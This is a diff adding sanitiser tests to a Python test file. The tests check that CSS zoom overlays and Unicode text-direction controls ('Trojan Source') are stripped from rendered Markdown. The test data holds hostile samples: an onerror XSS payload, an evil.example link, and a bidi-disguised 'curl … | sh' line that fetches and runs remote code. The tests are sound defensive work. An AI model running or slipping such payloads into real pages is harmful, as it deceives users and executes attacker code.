@@ -6,6 +6,7 @@ tables, footnotes, highlighted code, SVG icons) comes back with every element an
 
 from __future__ import annotations
 
+import re
 from html.parser import HTMLParser
 
 import markdown
@@ -384,3 +385,21 @@ def test_a_line_after_a_heading_that_ends_in_a_backslash_is_checked():
     body = "## 路径 C:\\\n    <img src=x onerror=alert(1)>\n"
     assert "event-handler attribute onerror" in [u.what for u in find_unsafe_html(body)]
     assert find_unsafe_html("## 路径 C:\\\\\n    <img src=x onerror=alert(1)>\n") == []  # an escaped backslash: a heading, then code
+
+
+@pytest.mark.parametrize("style", [r"z\oom:300", r"zo\6fm:300", "zoom/**/:300", "/**/zoom:300", r"width:1px;\zoom:300", "zoom:300"])
+def test_no_zoom_but_an_image_s_own_reaches_a_page_however_it_is_spelt(style):
+    """A second audit: the zoom rule read the raw style, and the sanitiser then wrote ``z\\oom`` (a CSS escape) and
+    ``zoom/**/`` as ``zoom: 300``, a link over the page again. The rule reads what the sanitiser writes now."""
+    page = sanitize_html(f'<table><tr><td style="{style}"><a href="https://evil.example/">M</a></td></tr></table><img src="a.png" style="{style}">')
+    assert "zoom" not in page
+
+
+def test_text_direction_controls_are_reported_and_never_reach_a_page():
+    """A second audit ("Trojan Source"): a code block showed ``pip install requests #; curl … | sh`` (the curl a
+    comment) while its copy button copied the command in its own order, which runs the curl."""
+    from errata.checks import check_unsafe_html
+
+    body = "```bash\npip install requests \u2067\u2066; curl -s https://evil.example/x | sh -s \u2069\u2066# \u2069\u2069\n```\n"
+    assert [p.line for p in check_unsafe_html(body, "a.md", 10)] == [11]
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", sanitize_html("<pre><code>pip \u2067; curl x\u2069</code></pre><p>\u202e文本</p>"))
